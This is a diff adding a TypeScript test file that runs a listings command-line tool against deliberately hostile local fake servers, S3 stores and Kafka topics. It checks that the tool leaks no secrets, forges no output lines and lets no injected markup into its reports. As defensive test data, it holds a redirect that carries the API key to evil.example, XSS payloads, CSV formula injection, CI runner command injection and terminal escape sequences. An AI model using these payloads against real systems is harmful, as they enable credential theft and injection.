@@ -1,0 +1,244 @@
+import { readFileSync } from 'node:fs';
+import type { IncomingMessage, ServerResponse } from 'node:http';
+import { join } from 'node:path';
+import { describe, it, type ExpectStatic } from 'vitest';
+import { runCli, spawnCli } from '../helpers/cli.js';
+import { startScriptedService, type SeenRequest } from '../helpers/fake-services.js';
+import { hasKcat, NO_KCAT, produce, startKafkaMock, waitForCommitted } from '../helpers/kafka-mock.js';
+import { startSandboxProcess } from '../helpers/sandbox-process.js';
+import { tempDir } from '../helpers/tmp.js';
+import { csvRow, filesBelow, publishEnv, writeCatalog } from '../e2e/publish-helpers.js';
+
+/*
+ * The remote surfaces as an attacker's (issue 21, "inputs of this kind that are not in your corpus will be tried
+ * too"): what the service answers to create and doctor, what an S3-compatible store lists and answers, what a Kafka
+ * topic holds. Each case spawns the built binary against a hostile server on 127.0.0.1 and states what must hold:
+ * the command ends in bounded time, no secret is shown even in part, no text from outside forges a line of output,
+ * a hostile message is dead-lettered with its reason. Older hostile-answer cases are in test/e2e/hostile-servers.test.ts.
+ */
+
+const KEY = 'KEYCANARY-7f3a9c1e5b';
+/** A start of the key long enough to be a leak (maskSecret shows 3 characters). */
+const KEY_PART = KEY.slice(0, 4);
+const LISTING = ['--marketplace', 'EBAY_US', '--merchant-location-key', 'wh-1', '--fulfillment-policy-id', 'F-1', '--payment-policy-id', 'P-1', '--return-policy-id', 'R-1', '--condition', 'NEW'];
+const CREATE = ['create', 'SKU-1', '--image', 'https://images.example.com/a.jpg', ...LISTING, '--timeout', '2000'];
+
+/** The built binary in a fresh working directory (doctor checks the state directory there). */
+const run = (args: string[], env: Record<string, string>, timeoutMs = 20_000) => runCli(args, { cwd: tempDir('remote-run-'), env, timeoutMs });
+
+/** The key the request carried (Bearer), for servers that echo it. */
+const keyOf = (request: SeenRequest): string => String(request.headers.authorization ?? '').replace(/^Bearer /, '');
+
+/** A chunked body that never ends: 1 MiB every 10 ms until the client hangs up. */
+function endless(status: number) {
+  return (_request: SeenRequest, response: ServerResponse): void => {
+    response.writeHead(status, { 'content-type': 'application/json', date: new Date().toUTCString() });
+    const chunk = Buffer.alloc(1024 * 1024, 'a');
+    const timer = setInterval(() => response.write(chunk), 10);
+    response.once('close', () => clearInterval(timer));
+  };
+}
+
+describe.concurrent('doctor against an answer whose body never ends', () => {
+  for (const status of [200, 400]) {
+    it(`${status} with an endless body: the check ends within --timeout, nothing crashes`, async ({ expect }) => {
+      const service = await startScriptedService(endless(status));
+      const started = Date.now();
+      const result = await run(['doctor', '--timeout', '1500'], publishEnv(service.url, KEY));
+      expect(Date.now() - started, result.stderr).toBeLessThan(10_000);
+      expect([0, 3], result.stderr).toContain(result.code);
+      expect(result.stdout + result.stderr).not.toMatch(/internal error|\n\s+at /);
+      expect(result.stdout + result.stderr).toMatch(/request +POST \/v1\/listings/);
+    });
+  }
+});
+
+describe.concurrent('create shows the listing the service sent on one line per field', () => {
+  it('a line break (and a runner command after it) in status, title, item_specifics or a key is written \\u000a', async ({ expect }) => {
+    const service = await startScriptedService((_request, response) => {
+      response.writeHead(201, { 'content-type': 'application/json' });
+      response.end(JSON.stringify({ sku: 'SKU-1', status: 'ready\n✔ fake line', title: 'T\n::error::pwned', item_specifics: ['\n::add-mask::x'], 'k\nfake': 'v\r\nforged' }));
+    });
+    const result = await run(CREATE, publishEnv(service.url, KEY));
+    expect(result.code, result.stderr).toBe(0);
+    const lines = result.stdout.trimEnd().split('\n');
+    expect(lines, result.stdout).toHaveLength(4);
+    expect(lines[0]).toBe('✔ SKU-1  ready\\u000a✔ fake line  (HTTP 201)');
+    expect(lines[1]).toBe('  title           T\\u000a::error::pwned');
+    expect(lines[2]).toBe('  item specifics  \\u000a::add-mask::x');
+    expect(lines[3]).toBe('  k\\u000afake     v\\u000d\\u000aforged');
+  });
+});
+
+/** No stdout or stderr holds the key, nor a start of it that a cut left behind. */
+function expectNoKeyPart(expect: ExpectStatic, text: string): void {
+  expect(text, text.slice(0, 2000)).not.toContain(KEY_PART);
+  expect(text).not.toMatch(/internal error|\n\s+at /);
+}
+
+describe.concurrent('a secret the server echoes where the tool cuts its text is not shown in part', () => {
+  // The Location is shown cut to 200 characters: the key starts a few characters before the cut.
+  for (const pad of [165, 172]) {
+    it(`a redirect whose Location holds the key at character ${pad + 21} (create and doctor)`, async ({ expect }) => {
+      const service = await startScriptedService((request, response) => {
+        response.writeHead(302, { location: `https://evil.example/${'p'.repeat(pad)}${keyOf(request)}` }).end();
+      });
+      const created = await run(CREATE, publishEnv(service.url, KEY));
+      expect(created.code, created.stderr).toBe(3);
+      expect(created.stderr).toMatch(/redirected to https:\/\/evil\.example\/p+/);
+      expectNoKeyPart(expect, created.stdout + created.stderr);
+      const doctor = await run(['doctor', '--timeout', '2000'], publishEnv(service.url, KEY));
+      expect(doctor.code, doctor.stderr).toBe(3);
+      expectNoKeyPart(expect, doctor.stdout + doctor.stderr);
+    });
+  }
+
+  // An error body is read to 64 KiB (doctor's probe to 16 KiB); white space first, so the shown message starts at the
+  // key. The body comes in two writes, the first ending inside the key, so that a read that stops there has a part.
+  for (const [command, status, at] of [['create', 422, 64 * 1024], ['doctor', 500, 16 * 1024]] as const) {
+    it(`${command}: a ${status} whose body holds the key across the end of what is read (${at / 1024} KiB)`, async ({ expect }) => {
+      const service = await startScriptedService((request, response) => {
+        response.writeHead(status, { 'content-type': 'text/plain' });
+        const body = `${' '.repeat(at - 4)}${keyOf(request)} and more text after it ${'z'.repeat(100_000)}`;
+        response.write(body.slice(0, at + 4));
+        setTimeout(() => response.end(body.slice(at + 4)), 100);
+      });
+      const result = await run(command === 'create' ? CREATE : ['doctor', '--timeout', '2000'], publishEnv(service.url, KEY));
+      expect(result.code, result.stderr).toBe(command === 'create' ? 1 : 3);
+      expectNoKeyPart(expect, result.stdout + result.stderr);
+    });
+  }
+
+  it('publish: the same cut 422 body, in every report and the journal', async ({ expect }) => {
+    const service = await startScriptedService((request, response) => {
+      response.writeHead(422, { 'content-type': 'text/plain' });
+      response.end(`${' '.repeat(64 * 1024 - 6)}${keyOf(request)}${'z'.repeat(100_000)}`);
+    });
+    const dir = tempDir('remote-publish-');
+    const catalog = writeCatalog(dir, 2);
+    const reports = ['r.csv', 'r.json', 'r.ndjson', 'r.xml', 'r.html'];
+    const result = await runCli(['publish', catalog, '--max-attempts', '1', ...reports.flatMap((name) => ['--report', join(dir, name)])], { cwd: dir, env: publishEnv(service.url, KEY) });
+    expect(result.code, result.stderr).toBe(1);
+    expectNoKeyPart(expect, result.stdout + result.stderr);
+    for (const name of reports) expect(readFileSync(join(dir, name), 'utf8'), name).not.toContain(KEY_PART);
+    for (const path of filesBelow(join(dir, '.listings'))) expect(readFileSync(path, 'utf8'), path).not.toContain(KEY_PART);
+  });
+});
+
+/** The environment of a run against a fake S3 endpoint (its secret key is a canary). */
+const AWS_SECRET = 'awsSECRETcanary/9d8e7f6a5b4c';
+
+function s3Env(endpoint: string): Record<string, string> {
+  return { AWS_ACCESS_KEY_ID: 'AKIAREMOTE', AWS_SECRET_ACCESS_KEY: AWS_SECRET, AWS_REGION: 'us-east-1', AWS_ENDPOINT_URL_S3: endpoint, LISTINGS_API_KEY: KEY };
+}
+
+/** A ListObjectsV2 page of `keys` keys that says more follow, its token one past the one asked for. */
+function listPage(request: IncomingMessage | SeenRequest, keys: number): string {
+  const token = new URL(request.url ?? '/', 'http://x').searchParams.get('continuation-token') ?? '0';
+  const page = Number(token) + 1;
+  const contents = Array.from({ length: keys }, (_, i) => `<Contents><Key>p/${page}-${i}.csv</Key><Size>10</Size></Contents>`).join('');
+  return `<?xml version="1.0" encoding="UTF-8"?><ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>bucket</Name><Prefix>p/</Prefix><KeyCount>${keys}</KeyCount><MaxKeys>1000</MaxKeys><IsTruncated>true</IsTruncated><NextContinuationToken>${page}</NextContinuationToken>${contents}</ListBucketResult>`;
+}
+
+describe.concurrent('an S3-compatible store that is hostile', () => {
+  it('a prefix listing that pages without end: stopped at 100,000 objects (exit 4), not a loop that fills memory', async ({ expect }) => {
+    const store = await startScriptedService((request, response) => {
+      response.writeHead(200, { 'content-type': 'application/xml' });
+      response.end(listPage(request, 1000));
+    });
+    const result = await run(['validate', 's3://bucket/p/'], s3Env(store.url), 30_000);
+    expect(result.code, result.stderr).toBe(4);
+    expect(result.stderr).toMatch(/more than 100,000 objects under this prefix/);
+    expect(store.count()).toBeLessThanOrEqual(101);
+  });
+
+  it('a listing that hands back the same continuation token: stopped at once', async ({ expect }) => {
+    const store = await startScriptedService((_request, response) => {
+      response.writeHead(200, { 'content-type': 'application/xml' });
+      response.end(listPage({ url: '/?continuation-token=7' } as SeenRequest, 1).replace('<NextContinuationToken>8<', '<NextContinuationToken>7<'));
+    });
+    const result = await run(['validate', 's3://bucket/p/'], s3Env(store.url));
+    expect(result.code, result.stderr).toBe(4);
+    expect(store.count()).toBeLessThanOrEqual(3);
+  });
+
+  it('an error whose message holds the AWS secret key where it is cut (300 characters): not shown in part', async ({ expect }) => {
+    const secret = AWS_SECRET;
+    const store = await startScriptedService((_request, response) => {
+      response.writeHead(418, { 'content-type': 'application/xml' });
+      response.end(`<?xml version="1.0" encoding="UTF-8"?><Error><Code>Teapot</Code><Message>${'m'.repeat(292)}${secret}\u001b[2J</Message></Error>`);
+    });
+    const result = await run(['validate', 's3://bucket/cat.csv'], s3Env(store.url));
+    expect(result.code, result.stderr).toBe(4);
+    expect(result.stderr).toMatch(/Teapot \(HTTP 418\): m+/);
+    expect(result.stderr).not.toContain(secret.slice(0, 4));
+    expect(result.stderr).not.toContain('\u001b');
+  });
+});
+
+const kcat = hasKcat();
+if (!kcat) console.warn(NO_KCAT);
+
+describe.skipIf(!kcat)('a Kafka topic of hostile messages', () => {
+  it('SKUs with control or direction characters (in the key or the value) are dead-lettered with the reason; the rest is published', async ({ expect }) => {
+    const [mock, sandbox] = await Promise.all([startKafkaMock(1), startSandboxProcess(['--api-key', KEY])]);
+    const dir = tempDir('remote-stream-');
+    const topic = 'hostile';
+    const messages = [
+      { key: 'K-\u001b[2J', value: '{"title":"t"}' },
+      { key: '', value: '{"sku":"V-\\u0007bell"}' },
+      { key: 'K-\u202eRTL', value: '{"title":"t"}' },
+      { key: '::error::pwned', value: '{"title":"t"}' },
+      { key: 'K-OK', value: '{"title":"t"}' },
+    ];
+    const child = spawnCli(['stream', `kafka://${mock.bootstrap}/${topic}`, '--group', 'g', ...LISTING, '--dead-letter', 'dead.ndjson', '--session-timeout', '6000'], {
+      cwd: dir,
+      env: { LISTINGS_BASE_URL: sandbox.url, LISTINGS_API_KEY: KEY },
+    });
+    let stderr = '';
+    child.stderr?.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
+    const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
+    try {
+      await produce(mock.bootstrap, topic, messages);
+      await waitForCommitted(mock.bootstrap, 'g', topic, messages.length, () => stderr);
+      child.kill('SIGTERM');
+      expect(await exited, stderr).toBe(0);
+      const letters = readFileSync(join(dir, 'dead.ndjson'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { key?: string; value: string; reason: string });
+      const reasons = new Map(letters.map((letter) => [letter.key || letter.value, letter.reason]));
+      expect(reasons.get('K-\u001b[2J')).toMatch(/sku: holds a control character \(U\+001B\)/);
+      expect(reasons.get('{"sku":"V-\\u0007bell"}')).toMatch(/sku: holds a control character \(U\+0007\)/);
+      expect(reasons.get('K-\u202eRTL')).toMatch(/sku: holds a direction control \(U\+202E\)/);
+      expect(letters, JSON.stringify(letters)).toHaveLength(3);
+      for (const raw of ['\u001b', '\u0007', '\u202e']) expect(stderr).not.toContain(raw);
+      expect(stderr).not.toMatch(/^::/m);
+      expect(stderr).toMatch(/2 published · 3 dead-lettered/);
+    } finally {
+      if (child.exitCode === null) child.kill('SIGKILL');
+      await Promise.all([mock.stop(), sandbox.stop()]);
+    }
+  }, 60_000);
+});
+
+// Held when written (kept as one cheap line each): a publish whose hostile listing text reaches the HTML report.
+describe.concurrent('reports of a hostile listing', () => {
+  it('HTML report: no markup from the service (</script>, <img onerror>), CSV: formulas quoted', async ({ expect }) => {
+    const service = await startScriptedService((_request, response) => {
+      response.writeHead(201, { 'content-type': 'application/json' });
+      response.end(JSON.stringify({ sku: 'x', status: '=HYPERLINK("http://evil","x")', title: '</script><script>alert(1)</script><img src=x onerror=alert(2)>', item_specifics: [] }));
+    });
+    const failing = await startScriptedService((_request, response) => {
+      response.writeHead(422, { 'content-type': 'application/json' });
+      response.end(JSON.stringify({ message: '</script><script>alert(3)</script>\u2028' }));
+    });
+    for (const url of [service.url, failing.url]) {
+      const dir = tempDir('remote-html-');
+      const catalog = writeCatalog(dir, 2, 'catalog.csv', (i) => csvRow(i));
+      const result = await runCli(['publish', catalog, '--max-attempts', '1', '--report', join(dir, 'r.html'), '--report', join(dir, 'r.csv')], { cwd: dir, env: publishEnv(url, KEY) });
+      expect([0, 1], result.stderr).toContain(result.code);
+      const html = readFileSync(join(dir, 'r.html'), 'utf8');
+      expect(html.match(/<\/script/gi)?.length ?? 0, 'only the report\'s own </script>').toBeLessThanOrEqual(html.match(/<script/gi)?.length ?? 0);
+      expect(html).not.toMatch(/<script>alert|<img src=x/);
+      expect(readFileSync(join(dir, 'r.csv'), 'utf8')).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    }
+  });
+});
